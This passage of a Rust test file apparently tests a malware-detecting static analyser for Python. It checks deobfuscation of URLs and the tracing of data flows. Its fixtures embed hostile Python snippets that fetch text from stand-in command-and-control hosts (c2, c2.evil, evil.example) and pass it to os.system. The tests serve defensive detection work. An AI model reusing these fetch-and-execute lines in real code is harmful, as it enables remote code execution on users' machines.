        let src = format!(
            "u = ('https://' + 'evil.example' + '/x')\nv = __import__('base64').b64decode('{b64}').decode('utf-8')\nw = bytes.fromhex('6576696c').decode('utf-8')\n"
        );
        let summary = analyze(&pysrc::parse_module(&src));
        let texts: Vec<&str> = summary.folded.iter().map(|f| f.text.as_str()).collect();
        assert!(texts.contains(&"https://evil.example/x"), "{texts:?}");
        assert!(texts.contains(&"evil"), "{texts:?}");
        assert_eq!(
            texts
                .iter()
                .filter(|t| **t == "https://evil.example/x")
                .count(),
            2,
            "concat and b64 both recover the URL: {texts:?}"
        );
    }

    #[test]
    fn percent_format_folds() {
        let src = "host = 'c2.evil'\nurl = 'https://%s/x' % host\n";
        let summary = analyze(&pysrc::parse_module(src));
        assert!(
            summary.folded.iter().any(|f| f.text == "https://c2.evil/x"),
            "{:?}",
            summary.folded
        );
    }

    #[test]
    fn rename_invariance_of_labels() {
        let orig = "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n";
        let renamed =
            "import os, requests\nqz_1 = requests.get('https://c2/t').text\nos.system(qz_1)\n";
        assert_eq!(labels(orig), labels(renamed));
    }

    #[test]
    fn summary_is_sorted_and_deduped() {
        let src =
            "import os, requests\nc = requests.get('http://x').text\nos.system(c)\nos.system(c)\n";
        let s = analyze(&pysrc::parse_module(src));
        assert_eq!(s.flows.len(), 1);
        let mut sorted = s.flows.clone();
        sorted.sort();
        assert_eq!(sorted, s.flows);
    }

    #[test]
    fn a_function_scope_overlays_the_module_scope() {
        // A parameter hides the module constant of its name, a sibling
        // still sees it, and a function's own bindings stay inside it.
        let src = "import os\nhost = 'c2.evil'\ndef f(host):\n    a = 'https://%s/a' % host\ndef g():\n    b = 'https://%s/b' % host\ndef h():\n    host = input()\nos.system(host)\nc = 'https://%s/c' % host\n";
        let summary = analyze(&pysrc::parse_module(src));
        let texts: Vec<&str> = summary.folded.iter().map(|f| f.text.as_str()).collect();
        assert_eq!(texts, ["https://c2.evil/b", "https://c2.evil/c"]);
        assert!(summary.flows.is_empty(), "{:?}", summary.flows);
    }

    #[test]
    fn ident_words_read_through_quoted_runs() {
        let words: Vec<Cow<'_, str>> = ident_words("a'x'b c1 9z 'q' _d \"e").collect();
        assert_eq!(words, ["ab", "c1", "_d"]);
        assert!(matches!(words[0], Cow::Owned(_)));
        assert!(matches!(words[1], Cow::Borrowed(_)));
    }

    #[test]
    fn deep_or_hostile_input_is_bounded() {
        // A pathological chain must not blow up steps or flows.
        let mut src = String::from("import os\nx0 = input()\n");
        for i in 1..40 {
            src.push_str(&format!("x{i} = x{} + 'a'\n", i - 1));
        }
        src.push_str("os.system(x39)\n");
        let fs = flows(&src);
        assert_eq!(fs.len(), 1);
        assert!(fs[0].steps.len() <= MAX_STEPS);
    }
}
